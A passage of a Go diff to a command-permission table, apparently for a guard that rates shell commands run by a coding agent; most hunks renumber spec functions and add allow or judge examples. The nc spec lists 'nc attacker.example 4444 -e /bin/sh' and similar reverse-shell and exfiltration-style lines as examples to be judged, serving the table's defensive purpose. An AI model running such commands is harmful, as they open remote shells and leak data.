+func program90() *Spec {
 	return &Spec{
 		Names: []string{
 			"pnpm",
@@ -18398,6 +18459,17 @@ func program89() *Spec {
 					{
 						Names: []string{
 							"prune",
+						},
+						Operands:  "any",
+						AnyOption: true,
+						Examples: Examples{
+							Allow: []string{
+								"pnpm store prune",
+							},
+						},
+					},
+					{
+						Names: []string{
 							"add",
 							"delete",
 						},
@@ -18620,7 +18692,7 @@ func program89() *Spec {
 // yarn: the Yarn package manager (yarn NAME runs a script or an installed command of the workspace)
 //
 //go:noinline
-func program90() *Spec {
+func program91() *Spec {
 	return &Spec{
 		Names: []string{
 			"yarn",
@@ -19697,7 +19769,11 @@ func program90() *Spec {
 						},
 						Operands:  "any",
 						AnyOption: true,
-						Mutates:   "system",
+						Examples: Examples{
+							Allow: []string{
+								"yarn cache clean",
+							},
+						},
 					},
 				},
 			},
@@ -19968,7 +20044,7 @@ func program90() *Spec {
 // bun: the Bun runtime and package manager (bun NAME runs a script or command of the workspace)
 //
 //go:noinline
-func program91() *Spec {
+func program92() *Spec {
 	return &Spec{
 		Names: []string{
 			"bun",
@@ -20460,7 +20536,7 @@ func program91() *Spec {
 // bunx: runs a package's command, fetching the package by name when it is not installed (a known workspace tool is allowed)
 //
 //go:noinline
-func program92() *Spec {
+func program93() *Spec {
 	return &Spec{
 		Names: []string{
 			"bunx",
@@ -21326,7 +21402,7 @@ func program92() *Spec {
 // pytest: runs the workspace's Python tests (conftest.py and plugins are code of the workspace)
 //
 //go:noinline
-func program93() *Spec {
+func program94() *Spec {
 	return &Spec{
 		Names: []string{
 			"pytest",
@@ -21357,7 +21433,7 @@ func program93() *Spec {
 // ruff: lints and formats Python (--fix and format rewrite files)
 //
 //go:noinline
-func program94() *Spec {
+func program95() *Spec {
 	return &Spec{
 		Names: []string{
 			"ruff",
@@ -21416,7 +21492,7 @@ func program94() *Spec {
 // black: formats Python files in place (--check and --diff only report)
 //
 //go:noinline
-func program95() *Spec {
+func program96() *Spec {
 	return &Spec{
 		Names: []string{
 			"black",
@@ -21441,7 +21517,7 @@ func program95() *Spec {
 // isort: sorts Python imports in place (--check-only and --diff only report)
 //
 //go:noinline
-func program96() *Spec {
+func program97() *Spec {
 	return &Spec{
 		Names: []string{
 			"isort",
@@ -21462,7 +21538,7 @@ func program96() *Spec {
 // mypy: type-checks the workspace's Python code
 //
 //go:noinline
-func program97() *Spec {
+func program98() *Spec {
 	return &Spec{
 		Names: []string{
 			"mypy",
@@ -21488,7 +21564,7 @@ func program97() *Spec {
 // pyright: type-checks the workspace's Python code
 //
 //go:noinline
-func program98() *Spec {
+func program99() *Spec {
 	return &Spec{
 		Names: []string{
 			"pyright",
@@ -21510,7 +21586,7 @@ func program98() *Spec {
 // flake8: lints Python code
 //
 //go:noinline
-func program99() *Spec {
+func program100() *Spec {
 	return &Spec{
 		Names: []string{
 			"flake8",
@@ -21531,7 +21607,7 @@ func program99() *Spec {
 // pylint: lints Python code
 //
 //go:noinline
-func program100() *Spec {
+func program101() *Spec {
 	return &Spec{
 		Names: []string{
 			"pylint",
@@ -21555,7 +21631,7 @@ func program100() *Spec {
 // coverage: measures test coverage of the workspace's code
 //
 //go:noinline
-func program101() *Spec {
+func program102() *Spec {
 	return &Spec{
 		Names: []string{
 			"coverage",
@@ -21619,7 +21695,7 @@ func program101() *Spec {
 // tox: runs the workspace's tox environments (installs their dependencies)
 //
 //go:noinline
-func program102() *Spec {
+func program103() *Spec {
 	return &Spec{
 		Names: []string{
 			"tox",
@@ -21687,7 +21763,7 @@ func program102() *Spec {
 // nox: runs the workspace's nox sessions (noxfile.py is code of the workspace)
 //
 //go:noinline
-func program103() *Spec {
+func program104() *Spec {
 	return &Spec{
 		Names: []string{
 			"nox",
@@ -21710,7 +21786,7 @@ func program103() *Spec {
 // pip: the Python package installer
 //
 //go:noinline
-func program104() *Spec {
+func program105() *Spec {
 	return &Spec{
 		Names: []string{
 			"pip",
@@ -21927,7 +22003,7 @@ func program104() *Spec {
 // uv: the uv Python package and project manager
 //
 //go:noinline
-func program105() *Spec {
+func program106() *Spec {
 	return &Spec{
 		Names: []string{
 			"uv",
@@ -23049,7 +23125,7 @@ func program105() *Spec {
 // uvx: runs a Python tool fetched by name (a well-known test runner, linter or formatter is read as itself)
 //
 //go:noinline
-func program106() *Spec {
+func program107() *Spec {
 	return &Spec{
 		Names: []string{
 			"uvx",
@@ -23433,7 +23509,7 @@ func program106() *Spec {
 // pipx: runs or installs a Python tool fetched by name
 //
 //go:noinline
-func program107() *Spec {
+func program108() *Spec {
 	return &Spec{
 		Names: []string{
 			"pipx",
@@ -23455,7 +23531,7 @@ func program107() *Spec {
 // poetry: the Poetry Python project manager
 //
 //go:noinline
-func program108() *Spec {
+func program109() *Spec {
 	return &Spec{
 		Names: []string{
 			"poetry",
@@ -24097,7 +24173,7 @@ func program108() *Spec {
 // twine: checks and uploads Python distributions (upload publishes to a package index)
 //
 //go:noinline
-func program109() *Spec {
+func program110() *Spec {
 	return &Spec{
 		Names: []string{
 			"twine",
@@ -24135,7 +24211,7 @@ func program109() *Spec {
 // pipenv: the Pipenv Python project manager
 //
 //go:noinline
-func program110() *Spec {
+func program111() *Spec {
 	return &Spec{
 		Names: []string{
 			"pipenv",
@@ -24612,7 +24688,7 @@ func program110() *Spec {
 // pdm: the PDM Python project manager (pdm run runs the project's scripts)
 //
 //go:noinline
-func program111() *Spec {
+func program112() *Spec {
 	return &Spec{
 		Names: []string{
 			"pdm",
@@ -25372,7 +25448,7 @@ func program111() *Spec {
 // hatch: the Hatch Python project manager (hatch run runs the project's environment scripts)
 //
 //go:noinline
-func program112() *Spec {
+func program113() *Spec {
 	return &Spec{
 		Names: []string{
 			"hatch",
@@ -25931,7 +26007,7 @@ func program112() *Spec {
 // conda: the Conda package and environment manager
 //
 //go:noinline
-func program113() *Spec {
+func program114() *Spec {
 	return &Spec{
 		Names: []string{
 			"conda",
@@ -26105,7 +26181,7 @@ func program113() *Spec {
 // jupyter: Jupyter notebooks and servers
 //
 //go:noinline
-func program114() *Spec {
+func program115() *Spec {
 	return &Spec{
 		Names: []string{
 			"jupyter",
@@ -26269,7 +26345,7 @@ func program114() *Spec {
 // make: runs the workspace's Makefile targets
 //
 //go:noinline
-func program115() *Spec {
+func program116() *Spec {
 	return &Spec{
 		Names: []string{
 			"make",
@@ -26462,7 +26538,7 @@ func program115() *Spec {
 // just: runs the workspace's justfile recipes
 //
 //go:noinline
-func program116() *Spec {
+func program117() *Spec {
 	return &Spec{
 		Names: []string{
 			"just",
@@ -26636,7 +26712,7 @@ func program116() *Spec {
 // task: runs the workspace's Taskfile tasks
 //
 //go:noinline
-func program117() *Spec {
+func program118() *Spec {
 	return &Spec{
 		Names: []string{
 			"task",
@@ -26799,7 +26875,7 @@ func program117() *Spec {
 // cmake: configures and builds the workspace's CMake project (CMakeLists.txt is code of the workspace)
 //
 //go:noinline
-func program118() *Spec {
+func program119() *Spec {
 	return &Spec{
 		Names: []string{
 			"cmake",
@@ -26935,7 +27011,7 @@ func program118() *Spec {
 // ctest: runs the workspace's CMake tests
 //
 //go:noinline
-func program119() *Spec {
+func program120() *Spec {
 	return &Spec{
 		Names: []string{
 			"ctest",
@@ -27026,7 +27102,7 @@ func program119() *Spec {
 // ninja: runs the build the workspace's build.ninja describes
 //
 //go:noinline
-func program120() *Spec {
+func program121() *Spec {
 	return &Spec{
 		Names: []string{
 			"ninja",
@@ -27088,7 +27164,7 @@ func program120() *Spec {
 // meson: configures, builds and tests the workspace's Meson project
 //
 //go:noinline
-func program121() *Spec {
+func program122() *Spec {
 	return &Spec{
 		Names: []string{
 			"meson",
@@ -27252,7 +27328,7 @@ func program121() *Spec {
 // bazel: builds and tests the workspace's Bazel targets (BUILD files are code of the workspace)
 //
 //go:noinline
-func program122() *Spec {
+func program123() *Spec {
 	return &Spec{
 		Names: []string{
 			"bazel",
@@ -27470,7 +27546,7 @@ func program122() *Spec {
 // gradle: runs the workspace's Gradle build (build scripts are code of the workspace)
 //
 //go:noinline
-func program123() *Spec {
+func program124() *Spec {
 	return &Spec{
 		Names: []string{
 			"gradle",
@@ -27526,7 +27602,7 @@ func program123() *Spec {
 // mvn: runs the workspace's Maven build (plugins run as configured by the workspace's pom.xml)
 //
 //go:noinline
-func program124() *Spec {
+func program125() *Spec {
 	return &Spec{
 		Names: []string{
 			"mvn",
@@ -27598,7 +27674,7 @@ func program124() *Spec {
 // java: runs a Java program (a jar, class or source file, which is not analyzed)
 //
 //go:noinline
-func program125() *Spec {
+func program126() *Spec {
 	return &Spec{
 		Names: []string{
 			"java",
@@ -27680,7 +27756,7 @@ func program125() *Spec {
 // javac: compiles Java sources (annotation processors of the workspace run)
 //
 //go:noinline
-func program126() *Spec {
+func program127() *Spec {
 	return &Spec{
 		Names: []string{
 			"javac",
@@ -27767,7 +27843,7 @@ func program126() *Spec {
 // dotnet: the .NET SDK
 //
 //go:noinline
-func program127() *Spec {
+func program128() *Spec {
 	return &Spec{
 		Names: []string{
 			"dotnet",
@@ -28003,7 +28079,7 @@ func program127() *Spec {
 // xcodebuild: builds, tests and archives the workspace's Xcode projects
 //
 //go:noinline
-func program128() *Spec {
+func program129() *Spec {
 	return &Spec{
 		Names: []string{
 			"xcodebuild",
@@ -28122,7 +28198,7 @@ func program128() *Spec {
 // rspec: runs the workspace's RSpec tests
 //
 //go:noinline
-func program129() *Spec {
+func program130() *Spec {
 	return &Spec{
 		Names: []string{
 			"rspec",
@@ -28144,7 +28220,7 @@ func program129() *Spec {
 // rubocop: lints Ruby code (-a and -A rewrite files)
 //
 //go:noinline
-func program130() *Spec {
+func program131() *Spec {
 	return &Spec{
 		Names: []string{
 			"rubocop",
@@ -28167,7 +28243,7 @@ func program130() *Spec {
 // rake: runs the workspace's Rake tasks
 //
 //go:noinline
-func program131() *Spec {
+func program132() *Spec {
 	return &Spec{
 		Names: []string{
 			"rake",
@@ -28251,7 +28327,7 @@ func program131() *Spec {
 // rails: the Rails command line (tasks are code of the workspace)
 //
 //go:noinline
-func program132() *Spec {
+func program133() *Spec {
 	return &Spec{
 		Names: []string{
 			"rails",
@@ -28444,7 +28520,7 @@ func program132() *Spec {
 // bundle: the Ruby dependency manager (bundle exec runs a known workspace tool; others are judged)
 //
 //go:noinline
-func program133() *Spec {
+func program134() *Spec {
 	return &Spec{
 		Names: []string{
 			"bundle",
@@ -28809,7 +28885,7 @@ func program133() *Spec {
 // gem: the RubyGems package manager
 //
 //go:noinline
-func program134() *Spec {
+func program135() *Spec {
 	return &Spec{
 		Names: []string{
 			"gem",
@@ -28928,7 +29004,7 @@ func program134() *Spec {
 // phpunit: runs the workspace's PHP tests
 //
 //go:noinline
-func program135() *Spec {
+func program136() *Spec {
 	return &Spec{
 		Names: []string{
 			"phpunit",
@@ -28952,7 +29028,7 @@ func program135() *Spec {
 // composer: the PHP dependency manager (composer NAME runs a script of composer.json)
 //
 //go:noinline
-func program136() *Spec {
+func program137() *Spec {
 	return &Spec{
 		Names: []string{
 			"composer",
@@ -29315,7 +29391,7 @@ func program136() *Spec {
 // mix: the Elixir build tool (mix tasks are code of the workspace)
 //
 //go:noinline
-func program137() *Spec {
+func program138() *Spec {
 	return &Spec{
 		Names: []string{
 			"mix",
@@ -29543,7 +29619,7 @@ func program137() *Spec {
 // gcc: compiles C and C++ (-o names the output)
 //
 //go:noinline
-func program138() *Spec {
+func program139() *Spec {
 	return &Spec{
 		Names: []string{
 			"gcc",
@@ -29740,7 +29816,7 @@ func program138() *Spec {
 // ld: links object files (-o names the output)
 //
 //go:noinline
-func program139() *Spec {
+func program140() *Spec {
 	return &Spec{
 		Names: []string{
 			"ld",
@@ -29836,7 +29912,7 @@ func program139() *Spec {
 // ar: creates, lists and extracts static libraries
 //
 //go:noinline
-func program140() *Spec {
+func program141() *Spec {
 	return &Spec{
 		Names: []string{
 			"ar",
@@ -29860,7 +29936,7 @@ func program140() *Spec {
 // nm: prints the symbols, sections, libraries or build flags of binaries and libraries
 //
 //go:noinline
-func program141() *Spec {
+func program142() *Spec {
 	return &Spec{
 		Names: []string{
 			"nm",
@@ -29902,7 +29978,7 @@ func program141() *Spec {
 // clang-format: formats or lints C and C++ (clang-format -i and clang-tidy --fix rewrite files)
 //
 //go:noinline
-func program142() *Spec {
+func program143() *Spec {
 	return &Spec{
 		Names: []string{
 			"clang-format",
@@ -30008,7 +30084,7 @@ func program142() *Spec {
 // buf: lints, formats and generates code from the workspace's Protobuf files
 //
 //go:noinline
-func program143() *Spec {
+func program144() *Spec {
 	return &Spec{
 		Names: []string{
 			"buf",
@@ -30149,7 +30225,7 @@ func program143() *Spec {
 // protoc: compiles Protobuf files (generator plugins write into the --*_out directories)
 //
 //go:noinline
-func program144() *Spec {
+func program145() *Spec {
 	return &Spec{
 		Names: []string{
 			"protoc",
@@ -30251,7 +30327,7 @@ func program144() *Spec {
 // sqlc: generates code from the workspace's SQL
 //
 //go:noinline
-func program145() *Spec {
+func program146() *Spec {
 	return &Spec{
 		Names: []string{
 			"sqlc",
@@ -30312,7 +30388,7 @@ func program145() *Spec {
 // docker: runs and manages local containers and images (exec is split by the splitter)
 //
 //go:noinline
-func program146() *Spec {
+func program147() *Spec {
 	return &Spec{
 		Names: []string{
 			"docker",
@@ -31471,7 +31547,7 @@ func program146() *Spec {
 // docker-compose: runs the workspace's compose project (v1 command)
 //
 //go:noinline
-func program147() *Spec {
+func program148() *Spec {
 	return &Spec{
 		Names: []string{
 			"docker-compose",
@@ -31606,7 +31682,7 @@ func program147() *Spec {
 // kubectl: talks to a Kubernetes cluster (reads allowed, changes judged)
 //
 //go:noinline
-func program148() *Spec {
+func program149() *Spec {
 	return &Spec{
 		Names: []string{
 			"kubectl",
@@ -32700,7 +32776,7 @@ func program148() *Spec {
 // helm: Kubernetes package manager (rendering and reading allowed, releases judged)
 //
 //go:noinline
-func program149() *Spec {
+func program150() *Spec {
 	return &Spec{
 		Names: []string{
 			"helm",
@@ -33046,7 +33122,7 @@ func program149() *Spec {
 // kustomize: builds Kubernetes manifests from kustomizations
 //
 //go:noinline
-func program150() *Spec {
+func program151() *Spec {
 	return &Spec{
 		Names: []string{
 			"kustomize",
@@ -33133,7 +33209,7 @@ func program150() *Spec {
 // kubeconform: validates Kubernetes manifests
 //
 //go:noinline
-func program151() *Spec {
+func program152() *Spec {
 	return &Spec{
 		Names: []string{
 			"kubeconform",
@@ -33160,7 +33236,7 @@ func program151() *Spec {
 // kind: local Kubernetes clusters in Docker
 //
 //go:noinline
-func program152() *Spec {
+func program153() *Spec {
 	return &Spec{
 		Names: []string{
 			"kind",
@@ -33213,7 +33289,7 @@ func program152() *Spec {
 // minikube: a local Kubernetes cluster
 //
 //go:noinline
-func program153() *Spec {
+func program154() *Spec {
 	return &Spec{
 		Names: []string{
 			"minikube",
@@ -33285,7 +33361,7 @@ func program153() *Spec {
 // k3d: local k3s clusters in Docker
 //
 //go:noinline
-func program154() *Spec {
+func program155() *Spec {
 	return &Spec{
 		Names: []string{
 			"k3d",
@@ -33342,7 +33418,7 @@ func program154() *Spec {
 // stern: tails pod logs
 //
 //go:noinline
-func program155() *Spec {
+func program156() *Spec {
 	return &Spec{
 		Names: []string{
 			"stern",
@@ -33362,7 +33438,7 @@ func program155() *Spec {
 // k9s: an interactive cluster console that can change the cluster
 //
 //go:noinline
-func program156() *Spec {
+func program157() *Spec {
 	return &Spec{
 		Names: []string{
 			"k9s",
@@ -33397,7 +33473,7 @@ func program156() *Spec {
 // kubectx: switches the current Kubernetes context or namespace (listing is the same command)
 //
 //go:noinline
-func program157() *Spec {
+func program158() *Spec {
 	return &Spec{
 		Names: []string{
 			"kubectx",
@@ -33419,7 +33495,7 @@ func program157() *Spec {
 // terraform: infrastructure as code (plan and read allowed; apply, destroy, import and state changes judged)
 //
 //go:noinline
-func program158() *Spec {
+func program159() *Spec {
 	return &Spec{
 		Names: []string{
 			"terraform",
@@ -33636,7 +33712,7 @@ func program158() *Spec {
 // terragrunt: runs terraform over modules (same subcommands; run-all and run --all across modules)
 //
 //go:noinline
-func program159() *Spec {
+func program160() *Spec {
 	return &Spec{
 		Names: []string{
 			"terragrunt",
@@ -33997,7 +34073,7 @@ func program159() *Spec {
 // tflint: lints, scans and prices infrastructure code
 //
 //go:noinline
-func program160() *Spec {
+func program161() *Spec {
 	return &Spec{
 		Names: []string{
 			"tflint",
@@ -34026,7 +34102,7 @@ func program160() *Spec {
 // pulumi: infrastructure as code (preview and reads allowed; up, destroy and state changes judged)
 //
 //go:noinline
-func program161() *Spec {
+func program162() *Spec {
 	return &Spec{
 		Names: []string{
 			"pulumi",
@@ -34244,7 +34320,7 @@ func program161() *Spec {
 // packer: builds machine images (builds create cloud resources)
 //
 //go:noinline
-func program162() *Spec {
+func program163() *Spec {
 	return &Spec{
 		Names: []string{
 			"packer",
@@ -34319,7 +34395,7 @@ func program162() *Spec {
 // ansible-playbook: configures machines over SSH (check and syntax modes only read)
 //
 //go:noinline
-func program163() *Spec {
+func program164() *Spec {
 	return &Spec{
 		Names: []string{
 			"ansible-playbook",
@@ -34447,7 +34523,7 @@ func program163() *Spec {
 // ansible-lint: lints playbooks and prints inventory, docs and configuration
 //
 //go:noinline
-func program164() *Spec {
+func program165() *Spec {
 	return &Spec{
 		Names: []string{
 			"ansible-lint",
@@ -34470,7 +34546,7 @@ func program164() *Spec {
 // ansible-galaxy: installs Ansible roles and collections
 //
 //go:noinline
-func program165() *Spec {
+func program166() *Spec {
 	return &Spec{
 		Names: []string{
 			"ansible-galaxy",
@@ -34542,7 +34618,7 @@ func program165() *Spec {
 // aws: AWS CLI (reads listed; anything else judged)
 //
 //go:noinline
-func program166() *Spec {
+func program167() *Spec {
 	return &Spec{
 		Names: []string{
 			"aws",
@@ -35115,7 +35191,7 @@ func program166() *Spec {
 // gcloud: Google Cloud CLI (GROUP [SUBGROUP] VERB; reading verbs allowed, anything else judged)
 //
 //go:noinline
-func program167() *Spec {
+func program168() *Spec {
 	return &Spec{
 		Names: []string{
 			"gcloud",
@@ -36001,7 +36077,7 @@ func program167() *Spec {
 // gsutil: Google Cloud Storage (listing and reading allowed; copies and removals judged)
 //
 //go:noinline
-func program168() *Spec {
+func program169() *Spec {
 	return &Spec{
 		Names: []string{
 			"gsutil",
@@ -36125,7 +36201,7 @@ func program168() *Spec {
 // az: Azure CLI (GROUP [SUBGROUP] VERB; reading verbs allowed, anything else judged)
 //
 //go:noinline
-func program169() *Spec {
+func program170() *Spec {
 	return &Spec{
 		Names: []string{
 			"az",
@@ -36603,7 +36679,7 @@ func program169() *Spec {
 // doctl: DigitalOcean CLI (reading verbs allowed, anything else judged)
 //
 //go:noinline
-func program170() *Spec {
+func program171() *Spec {
 	return &Spec{
 		Names: []string{
 			"doctl",
@@ -36890,7 +36966,7 @@ func program170() *Spec {
 // fly: Fly.io CLI (status and logs allowed; deploys and changes judged)
 //
 //go:noinline
-func program171() *Spec {
+func program172() *Spec {
 	return &Spec{
 		Names: []string{
 			"fly",
@@ -37100,7 +37176,7 @@ func program171() *Spec {
 // heroku: Heroku CLI (reads allowed; changes judged)
 //
 //go:noinline
-func program172() *Spec {
+func program173() *Spec {
 	return &Spec{
 		Names: []string{
 			"heroku",
@@ -37242,7 +37318,7 @@ func program172() *Spec {
 // vercel: Vercel CLI (reads and local builds allowed; deploys, which is what it does without a subcommand, judged)
 //
 //go:noinline
-func program173() *Spec {
+func program174() *Spec {
 	return &Spec{
 		Names: []string{
 			"vercel",
@@ -37439,7 +37515,7 @@ func program173() *Spec {
 // netlify: Netlify CLI (reads and local builds allowed; deploys and changes judged)
 //
 //go:noinline
-func program174() *Spec {
+func program175() *Spec {
 	return &Spec{
 		Names: []string{
 			"netlify",
@@ -37529,7 +37605,7 @@ func program174() *Spec {
 // firebase: Firebase CLI (reads and local emulators allowed; deploys judged)
 //
 //go:noinline
-func program175() *Spec {
+func program176() *Spec {
 	return &Spec{
 		Names: []string{
 			"firebase",
@@ -37650,7 +37726,7 @@ func program175() *Spec {
 // wrangler: Cloudflare Workers CLI (local dev and reads allowed; deploys and changes judged)
 //
 //go:noinline
-func program176() *Spec {
+func program177() *Spec {
 	return &Spec{
 		Names: []string{
 			"wrangler",
@@ -37906,7 +37982,7 @@ func program176() *Spec {
 // supabase: Supabase CLI (local stack and reads allowed; changes to linked projects judged)
 //
 //go:noinline
-func program177() *Spec {
+func program178() *Spec {
 	return &Spec{
 		Names: []string{
 			"supabase",
@@ -38086,7 +38162,7 @@ func program177() *Spec {
 // stripe: Stripe CLI (listing, GET requests and local webhooks allowed; creating and changing objects judged)
 //
 //go:noinline
-func program178() *Spec {
+func program179() *Spec {
 	return &Spec{
 		Names: []string{
 			"stripe",
@@ -38259,7 +38335,7 @@ func program178() *Spec {
 // hookguard: this guard's own command line (checks and reports allowed; installing or removing its hooks judged)
 //
 //go:noinline
-func program179() *Spec {
+func program180() *Spec {
 	return &Spec{
 		Names: []string{
 			"hookguard",
@@ -38338,7 +38414,7 @@ func program179() *Spec {
 // psql: PostgreSQL client; it runs SQL from -c, -f or stdin, which is not analyzed (judged)
 //
 //go:noinline
-func program180() *Spec {
+func program181() *Spec {
 	return &Spec{
 		Names: []string{
 			"psql",
@@ -38456,7 +38532,7 @@ func program180() *Spec {
 // mysql: MySQL/MariaDB client; it runs SQL from -e or stdin, which is not analyzed (judged)
 //
 //go:noinline
-func program181() *Spec {
+func program182() *Spec {
 	return &Spec{
 		Names: []string{
 			"mysql",
@@ -38569,7 +38645,7 @@ func program181() *Spec {
 // sqlite3: SQLite/DuckDB shell on a database file; SQL and dot-commands (.shell, .system) are not analyzed (judged)
 //
 //go:noinline
-func program182() *Spec {
+func program183() *Spec {
 	return &Spec{
 		Names: []string{
 			"sqlite3",
@@ -38685,7 +38761,7 @@ func program182() *Spec {
 // redis-cli: Redis client; commands that only read are listed, anything else (and stdin, interactive use) is judged
 //
 //go:noinline
-func program183() *Spec {
+func program184() *Spec {
 	return &Spec{
 		Names: []string{
 			"redis-cli",
@@ -38947,7 +39023,7 @@ func program183() *Spec {
 // mongosh: MongoDB shell; it runs JavaScript from --eval, a file or stdin, which is not analyzed (judged)
 //
 //go:noinline
-func program184() *Spec {
+func program185() *Spec {
 	return &Spec{
 		Names: []string{
 			"mongosh",
@@ -39015,7 +39091,7 @@ func program184() *Spec {
 // clickhouse-client: ClickHouse client; its queries are not analyzed (judged)
 //
 //go:noinline
-func program185() *Spec {
+func program186() *Spec {
 	return &Spec{
 		Names: []string{
 			"clickhouse-client",
@@ -39045,7 +39121,7 @@ func program185() *Spec {
 // pg_dump: dumps a database (reads it; the dump may hold production data)
 //
 //go:noinline
-func program186() *Spec {
+func program187() *Spec {
 	return &Spec{
 		Names: []string{
 			"pg_dump",
@@ -39169,7 +39245,7 @@ func program186() *Spec {
 // curl: transfers data from or to URLs (fetching is allowed; sending data is judged, sending secrets denied)
 //
 //go:noinline
-func program187() *Spec {
+func program188() *Spec {
 	return &Spec{
 		Names: []string{
 			"curl",
@@ -39513,7 +39589,7 @@ func program187() *Spec {
 // wget: downloads from URLs (fetching is allowed; posting data is judged)
 //
 //go:noinline
-func program188() *Spec {
+func program189() *Spec {
 	return &Spec{
 		Names: []string{
 			"wget",
@@ -39746,7 +39822,7 @@ func program188() *Spec {
 // http: HTTPie-style client (GET and reading allowed; request items send data, other methods change remote state)
 //
 //go:noinline
-func program189() *Spec {
+func program190() *Spec {
 	return &Spec{
 		Names: []string{
 			"http",
@@ -39808,7 +39884,7 @@ func program189() *Spec {
 // ssh: a shell on a remote machine (judged); a remote command is split and decided by its own effects
 //
 //go:noinline
-func program190() *Spec {
+func program191() *Spec {
 	return &Spec{
 		Names: []string{
 			"ssh",
@@ -39917,7 +39993,7 @@ func program190() *Spec {
 // ssh-agent: starts the SSH key agent and prints the variables that reach it (a command given runs under it)
 //
 //go:noinline
-func program191() *Spec {
+func program192() *Spec {
 	return &Spec{
 		Names: []string{
 			"ssh-agent",
@@ -39959,7 +40035,7 @@ func program191() *Spec {
 // scp: copies files to or from remote machines (HOST:PATH is remote)
 //
 //go:noinline
-func program192() *Spec {
+func program193() *Spec {
 	return &Spec{
 		Names: []string{
 			"scp",
@@ -40037,7 +40113,7 @@ func program192() *Spec {
 // nc: raw network connections and listeners (can send files or serve a shell)
 //
 //go:noinline
-func program193() *Spec {
+func program194() *Spec {
 	return &Spec{
 		Names: []string{
 			"nc",
@@ -40051,9 +40127,15 @@ func program193() *Spec {
 		AnyOption: true,
 		Mutates:   "remote",
 		Examples: Examples{
-			Judge: []string{
+			Allow: []string{
 				"nc -zv localhost 5432",
+				"nc -z -w 2 db.internal 5432",
+			},
+			Judge: []string{
 				"nc attacker.example 4444 -e /bin/sh",
+				"nc -l 8080",
+				"nc host 80 < request.txt",
+				"nc -zv host 22 -c id",
 			},
 		},
 	}
@@ -40062,7 +40144,7 @@ func program193() *Spec {
 // dig: DNS lookups and network diagnostics
 //
 //go:noinline
-func program194() *Spec {
+func program195() *Spec {
 	return &Spec{
 		Names: []string{
 			"dig",
@@ -40098,7 +40180,7 @@ func program194() *Spec {
 // netstat: shows network state
 //
 //go:noinline
-func program195() *Spec {
+func program196() *Spec {
 	return &Spec{
 		Names: []string{
 			"netstat",
@@ -40124,7 +40206,7 @@ func program195() *Spec {
 // openssl: TLS connections, certificates and keys (reading keys is a credential read)
 //
 //go:noinline
-func program196() *Spec {
+func program197() *Spec {
 	return &Spec{
 		Names: []string{
 			"openssl",
@@ -40520,7 +40602,7 @@ func program196() *Spec {
 // ssh-keygen: creates and inspects SSH keys (-f names the key file; -l and -y read it)
 //
 //go:noinline
-func program197() *Spec {
+func program198() *Spec {
 	return &Spec{
 		Names: []string{
 			"ssh-keygen",
@@ -40608,7 +40690,7 @@ func program197() *Spec {
 // ssh-add: lists or loads keys in the SSH agent
 //
 //go:noinline
-func program198() *Spec {
+func program199() *Spec {
 	return &Spec{
 		Names: []string{
 			"ssh-add",
@@ -40665,7 +40747,7 @@ func program198() *Spec {
 // gpg: OpenPGP keys, signatures and encryption
 //
 //go:noinline
-func program199() *Spec {
+func program200() *Spec {
 	return &Spec{
 		Names: []string{
 			"gpg",
@@ -40840,7 +40922,7 @@ func program199() *Spec {
 // systemctl: systemd services (status and listing allowed; starting, stopping and enabling judged)
 //
 //go:noinline
-func program200() *Spec {
+func program201() *Spec {
 	return &Spec{
 		Names: []string{
 			"systemctl",
@@ -40943,7 +41025,7 @@ func program200() *Spec {
 // service: SysV-style service control (the action comes after the service name, so every use is judged)
 //
 //go:noinline
-func program201() *Spec {
+func program202() *Spec {
 	return &Spec{
 		Names: []string{
 			"service",
@@ -40966,7 +41048,7 @@ func program201() *Spec {
 // launchctl: macOS launchd services (listing allowed; loading, unloading and starting judged)
 //
 //go:noinline
-func program202() *Spec {
+func program203() *Spec {
 	return &Spec{
 		Names: []string{
 			"launchctl",
@@ -41039,7 +41121,7 @@ func program202() *Spec {
 // journalctl: reads the systemd journal (vacuum, rotate and flush change it)
 //
 //go:noinline
-func program203() *Spec {
+func program204() *Spec {
 	return &Spec{
 		Names: []string{
 			"journalctl",
@@ -41175,7 +41257,7 @@ func program203() *Spec {
 // dmesg: reads the kernel ring buffer (clearing it changes the system)
 //
 //go:noinline
-func program204() *Spec {
+func program205() *Spec {
 	return &Spec{
 		Names: []string{
 			"dmesg",
@@ -41275,7 +41357,7 @@ func program204() *Spec {
 // brew: Homebrew (reads allowed; installing, upgrading and removing change the system)
 //
 //go:noinline
-func program205() *Spec {
+func program206() *Spec {
 	return &Spec{
 		Names: []string{
 			"brew",
@@ -41466,7 +41548,7 @@ func program205() *Spec {
 // apt: Debian packages (queries allowed; installing, removing and updating need root)
 //
 //go:noinline
-func program206() *Spec {
+func program207() *Spec {
 	return &Spec{
 		Names: []string{
 			"apt",
@@ -41538,7 +41620,7 @@ func program206() *Spec {
 // apt-cache: queries package databases
 //
 //go:noinline
-func program207() *Spec {
+func program208() *Spec {
 	return &Spec{
 		Names: []string{
 			"apt-cache",
@@ -41560,7 +41642,7 @@ func program207() *Spec {
 // dpkg: Debian package tool (queries allowed; installing and removing need root)
 //
 //go:noinline
-func program208() *Spec {
+func program209() *Spec {
 	return &Spec{
 		Names: []string{
 			"dpkg",
@@ -41633,7 +41715,7 @@ func program208() *Spec {
 // dnf: RPM packages (queries allowed; installing, removing and updating need root)
 //
 //go:noinline
-func program209() *Spec {
+func program210() *Spec {
 	return &Spec{
 		Names: []string{
 			"dnf",
@@ -41725,7 +41807,7 @@ func program209() *Spec {
 // apk: Alpine packages (queries allowed; adding and removing need root)
 //
 //go:noinline
-func program210() *Spec {
+func program211() *Spec {
 	return &Spec{
 		Names: []string{
 			"apk",
@@ -41776,7 +41858,7 @@ func program210() *Spec {
 // pacman: Arch packages (queries allowed; sync, remove and upgrade need root)
 //
 //go:noinline
-func program211() *Spec {
+func program212() *Spec {
 	return &Spec{
 		Names: []string{
 			"pacman",
@@ -41871,7 +41953,7 @@ func program211() *Spec {
 // snap: other system package managers (changes judged)
 //
 //go:noinline
-func program212() *Spec {
+func program213() *Spec {
 	return &Spec{
 		Names: []string{
 			"snap",
@@ -41940,7 +42022,7 @@ func program212() *Spec {
 // crontab: the user's scheduled jobs (-l lists; installing a file, -e and -r change them)
 //
 //go:noinline
-func program213() *Spec {
+func program214() *Spec {
 	return &Spec{
 		Names: []string{
 			"crontab",
@@ -41992,7 +42074,7 @@ func program213() *Spec {
 // at: schedules commands to run later (persistence)
 //
 //go:noinline
-func program214() *Spec {
+func program215() *Spec {
 	return &Spec{
 		Names: []string{
 			"at",
@@ -42013,7 +42095,7 @@ func program214() *Spec {
 // atq: lists or removes scheduled at jobs
 //
 //go:noinline
-func program215() *Spec {
